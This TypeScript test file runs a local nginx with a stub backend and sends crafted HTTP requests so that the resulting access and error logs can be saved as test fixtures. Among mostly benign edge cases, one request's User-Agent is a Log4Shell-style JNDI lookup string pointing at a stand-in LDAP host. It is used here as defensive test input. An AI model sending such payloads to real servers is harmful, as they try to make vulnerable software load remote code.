/** The real nginx as an unprivileged user on the loopback address, with test/fixtures/nginx/nginx.conf. */
import { createServer, type Server } from 'node:http';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { projectRoot } from '../../tools/cache';
import { freePorts, give, startProgram, until } from '../../programs/program';
import { type Fixture, fixture, versionOf } from './fixture';
import { talk } from './tcp';

/** Debian has it outside of an ordinary user's PATH. */
const PROGRAM = '/usr/sbin/nginx';

/** The config that the docs recommend. */
export const nginxConfig = (): string =>
  readFileSync(join(projectRoot(), 'test', 'fixtures', 'nginx', 'nginx.conf'), 'utf8');

/** What the requests ask for, each as it goes over the wire. */
const REQUESTS: readonly (readonly [string, Readonly<Record<string, string>>?, string?])[] = [
  [
    'GET /static/index.html',
    { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0' },
  ],
  ['GET /health', { 'User-Agent': 'kube-probe/1.36' }],
  ['GET /health', { 'User-Agent': 'kube-probe/1.36' }],
  ['GET /old'],
  ['GET /api/guilds/7', { 'X-Request-Id': 'abc123' }],
  [
    'GET /api/guilds/7?token=hunter2-in-the-query&page=2',
    { Referer: 'https://example.org/login?access_token=hunter2-in-the-referer' },
  ],
  ['GET /api/fail', { 'X-Request-Id': 'request-that-fails' }],
  ['GET /missing.html'],
  ['GET /static/missing.png', { 'User-Agent': 'a "quoted" \\ agent' }],
  ['GET /static/%C3%BCmlaut%20and%22quote', { 'User-Agent': 'ünïcödé 🕵 agent' }],
  ['GET /static/%FF%00', {}],
  ['GET /static/%FFbinary', { 'User-Agent': 'binary \x01\x02\x7f\x1b[31m agent' }],
  ['GET /wp-login.php?password=hunter2-of-a-scanner', { 'User-Agent': '${jndi:ldap://example.org/a}' }],
  ['GET /loop'],
  ['GET /nowhere/at-all'],
  ['DELETE /static/index.html'],
  ['POST /api/upload', { 'Content-Length': '2000' }, 'x'.repeat(2000)],
  ['POST /login', { 'Content-Length': '2' }, '{}'],
  ['POST /login', { 'Content-Length': '2' }, '{}'],
  ['POST /login', { 'Content-Length': '2' }, '{}'],
];

/** The application behind nginx. */
async function startUpstream(port: number): Promise<Server> {
  const server = createServer((request, response) => {
    if (request.url === '/fail') response.writeHead(500).end();
    else setTimeout(() => response.end('{}'), request.url === '/slow' ? 700 : 5);
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return server;
}

/** Every request in the JSON format and in the combined one, and the error log. */
export async function captureNginx(folder: string): Promise<readonly Fixture[]> {
  const name = await versionOf([PROGRAM, '-v']);
  const [port = 0, backend = 0] = await freePorts(2);
  for (const part of ['logs', 'html', 'html/static']) {
    mkdirSync(join(folder, part));
    give(join(folder, part));
  }
  writeFileSync(join(folder, 'html', 'static', 'index.html'), '<h1>Spy Watcher</h1>\n');
  const changes: readonly (readonly [string, string])[] = [
    ['listen 8080', `listen 127.0.0.1:${port}`],
    ['127.0.0.1:3001', `127.0.0.1:${backend}`],
    ['error_log /dev/stderr info', 'error_log logs/error.log info'],
    [
      'access_log /dev/stdout spywatcher',
      'access_log logs/access-json.log spywatcher; access_log logs/access-combined.log combined',
    ],
  ];
  const config = changes.reduce((text, [from, to]) => {
    if (!text.includes(from)) throw new Error(`nginx.conf does not contain "${from}"`);
    return text.replace(from, to);
  }, nginxConfig());
  writeFileSync(join(folder, 'nginx.conf'), config);
  const upstream = await startUpstream(backend);
  const server = startProgram(
    [PROGRAM, '-p', folder, '-c', join(folder, 'nginx.conf'), '-e', join(folder, 'logs', 'error.log')],
    join(folder, 'nginx.log'),
    { unprivileged: true },
  );
  const errors = join(folder, 'logs', 'error.log');
  const started = (): boolean => existsSync(errors) && readFileSync(errors, 'utf8').includes('start worker process');
  try {
    await until('nginx', () => (started() ? undefined : 'not started'), { program: server });
    for (const [line, headers = {}, body = ''] of REQUESTS) {
      const all = { Host: 'example.org', Connection: 'close', ...headers };
      const head = Object.entries(all).map(([field, value]) => `${field}: ${value}\r\n`);
      await talk(port, [`${line} HTTP/1.1\r\n${head.join('')}\r\n${body}`]);
    }
    await talk(port, ['GET /api/slow HTTP/1.1\r\nHost: example.org\r\nConnection: close\r\n\r\n'], 2_000);
    await talk(port, ['GET /health HTTP/1.1\r\n\r\n']); // no host: 400
    await talk(port, [Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03])]); // TLS: 400
    await talk(port, ['GET /api/slow HTTP/1.1\r\nHost: example.org\r\n\r\n'], 200); // hangs up before the answer: 499
    await sleep(300);
    await talk(port, [
      Buffer.concat([
        Buffer.from('GET / HTTP/1.1\r\nHost: example.org\r\nUser-Agent: '),
        Buffer.from([0xff, 0xfe, 0x80]),
        Buffer.from('\r\nConnection: close\r\n\r\n'),
      ]),
    ]);
    await sleep(200);
  } finally {
    await server.stop('SIGQUIT');
    upstream.close();
    upstream.closeAllConnections();
  }
  const requests =
    '200, 301, 400, 404, 405, 413, 429, 499, 500, 502; health checks; secrets in queries; quotes, Unicode and bytes in agents';
  return [
    fixture(
      'nginx/access-json.log',
      name,
      `log_format spywatcher: ${requests}`,
      join(folder, 'logs', 'access-json.log'),
    ),
    fixture(
      'nginx/access-combined.log',
      name,
      `log_format combined: ${requests}`,
      join(folder, 'logs', 'access-combined.log'),
    ),
    fixture(
      'nginx/error.log',
      name,
      'error_log at info: start, the same requests’ errors, stop',
      join(folder, 'logs', 'error.log'),
    ),
  ];
}
